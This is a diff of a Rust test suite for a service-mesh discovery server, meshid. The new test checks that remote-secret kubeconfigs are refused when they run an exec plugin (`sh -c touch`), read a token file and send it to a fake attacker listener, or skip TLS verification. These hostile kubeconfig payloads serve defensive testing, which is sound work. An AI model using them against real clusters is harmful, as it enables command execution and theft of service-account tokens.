@@ -835,7 +835,11 @@ mod proof_by_proxy {
         drop(sds);
         let deadline = std::time::Instant::now() + Duration::from_secs(5);
         while !matches!(
-            registry.snapshot().proof_of("shop", "web-0"),
+            registry.snapshot().proof_of(&meshid::discovery::PodName {
+                cluster: "Kubernetes",
+                namespace: "shop",
+                name: "web-0"
+            }),
             ProxyProof::Recent { .. }
         ) {
             assert!(
@@ -1207,6 +1211,170 @@ mod multi_cluster {
                     "spec": {"address": "10.9.0.1", "labels": {"app": "vm", "security.istio.io/tlsMode": "istio"}}}));
             }
         }
+        server.running.shutdown().await;
+    }
+
+    fn remote_secret(api: &FakeApiServer, name: &str, clusters: &[(&str, String)]) {
+        use base64::Engine;
+        let data: BTreeMap<&str, String> = clusters
+            .iter()
+            .map(|(c, yaml)| (*c, base64::engine::general_purpose::STANDARD.encode(yaml)))
+            .collect();
+        api.put(json!({"apiVersion": "v1", "kind": "Secret",
+            "metadata": {"name": name, "namespace": "istio-system",
+                         "labels": {"istio/multiCluster": "true"}},
+            "data": data}));
+    }
+
+    fn hostile_kubeconfig(server: &str, cluster: &str, user: &str) -> String {
+        format!("apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts:\n- name: c\n  context: {{cluster: k, user: u}}\nclusters:\n- name: k\n  cluster:\n    server: {server}\n{cluster}users:\n- name: u\n  user:\n{user}")
+    }
+
+    /// A listener standing in for an attacker's API server: every byte it receives.
+    async fn attacker() -> (String, Arc<std::sync::Mutex<Vec<u8>>>) {
+        use tokio::io::AsyncReadExt;
+        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let addr = l.local_addr().unwrap().to_string();
+        let got = Arc::new(std::sync::Mutex::new(Vec::new()));
+        let g = got.clone();
+        tokio::spawn(async move {
+            while let Ok((mut c, _)) = l.accept().await {
+                let g = g.clone();
+                tokio::spawn(async move {
+                    let mut buf = [0u8; 4096];
+                    while let Ok(n) = c.read(&mut buf).await {
+                        if n == 0 {
+                            break;
+                        }
+                        g.lock().unwrap().extend_from_slice(&buf[..n]);
+                    }
+                });
+            }
+        });
+        (addr, got)
+    }
+
+    /// A server following the remote secrets of a primary cluster that holds one Secret with
+    /// `secrets`' kubeconfigs, allowing `allow`.
+    async fn with_remote_secret(
+        dir: &std::path::Path,
+        allow: &[&str],
+        secrets: &[(&str, String)],
+    ) -> (FakeApiServer, TestServer) {
+        let primary = FakeApiServer::start().await;
+        cluster_objects(&primary, "web-a", Side::Sidecar);
+        remote_secret(&primary, "istio-remote-secret-evil", secrets);
+        let kp = kubeconfig(dir, "p", &primary);
+        let policy = meshid::discovery::KubeconfigPolicy::allowing(allow.iter().copied());
+        let server = TestServer::start_with(Arc::new(SystemClock), move |cfg| {
+            cfg.discovery = Some(config::Discovery {
+                kubeconfig: Some(kp),
+                remote_secrets: true,
+                insecure_kubeconfig_options: policy,
+                ..Default::default()
+            })
+        })
+        .await;
+        (primary, server)
+    }
+
+    async fn refusals(server: &TestServer, want: usize) -> String {
+        for _ in 0..200 {
+            let text = server.running.metrics.render();
+            let n = text
+                .lines()
+                .filter(|l| l.starts_with("meshid_discovery_remote_secret_refused_total{"))
+                .count();
+            if n >= want {
+                return text;
+            }
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        panic!("{want} remote-secret refusals were not counted within 10 s");
+    }
+
+    /// istiod `sanitizeKubeConfig` (pkg/kube/util.go): a remote secret's kubeconfig that runs a
+    /// program (`exec`) runs nothing, one that reads a token file (here: meshid's own token)
+    /// sends nothing, and `insecure-skip-tls-verify` is refused too; each refusal is counted
+    /// with the Secret's name. The allow-listed control shows the same kubeconfigs would have
+    /// run the program and sent the token.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_remote_secret_kubeconfig_runs_no_program_and_reads_no_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let pwned = dir.path().join("pwned");
+        let token_file = dir.path().join("token");
+        std::fs::write(&token_file, "meshid-own-service-account-token").unwrap();
+        let (addr, got) = attacker().await;
+        let exec = hostile_kubeconfig(
+            &format!("http://{addr}"),
+            "",
+            &format!("    exec: {{apiVersion: client.authentication.k8s.io/v1beta1, command: sh, args: [-c, 'touch {}']}}\n", pwned.display()),
+        );
+        let token = hostile_kubeconfig(
+            &format!("http://{addr}"),
+            "",
+            &format!("    tokenFile: {}\n", token_file.display()),
+        );
+        let insecure = hostile_kubeconfig(
+            &format!("https://{addr}"),
+            "    insecure-skip-tls-verify: true\n",
+            "    token: inline\n",
+        );
+        let (_primary, server) = with_remote_secret(
+            dir.path(),
+            &[],
+            &[
+                ("exec", exec.clone()),
+                ("token", token.clone()),
+                ("insecure", insecure),
+            ],
+        )
+        .await;
+        let metrics = refusals(&server, 3).await;
+        for (cluster, reason) in [
+            ("exec", "exec"),
+            ("token", "tokenFile"),
+            ("insecure", "insecureSkipTlsVerify"),
+        ] {
+            assert!(
+                metrics.contains(&format!("cluster=\"{cluster}\""))
+                    && metrics.contains(&format!("reason=\"{reason}\"")),
+                "{cluster} refused for {reason}:\n{metrics}"
+            );
+        }
+        assert!(
+            metrics.contains("secret=\"istio-remote-secret-evil\""),
+            "{metrics}"
+        );
+        // The primary's endpoint is still served: refusing a secret costs nothing else.
+        eds_until(&server, |s| s.len() == 1).await;
+        assert!(!pwned.exists(), "the exec plugin ran");
+        assert!(
+            got.lock().unwrap().is_empty(),
+            "the attacker's listener was contacted"
+        );
+        server.running.shutdown().await;
+
+        // Control: allowed by name, the same kubeconfigs run the program and send the token.
+        let (_primary, server) = with_remote_secret(
+            dir.path(),
+            &["exec", "tokenFile"],
+            &[("exec", exec), ("token", token)],
+        )
+        .await;
+        for _ in 0..200 {
+            let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_lowercase();
+            if pwned.exists() && sent.contains("bearer meshid-own-service-account-token") {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        assert!(pwned.exists(), "allowed, the exec plugin runs");
+        let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_lowercase();
+        assert!(
+            sent.contains("bearer meshid-own-service-account-token"),
+            "allowed, tokenFile is sent: {sent}"
+        );
         server.running.shutdown().await;
     }
 
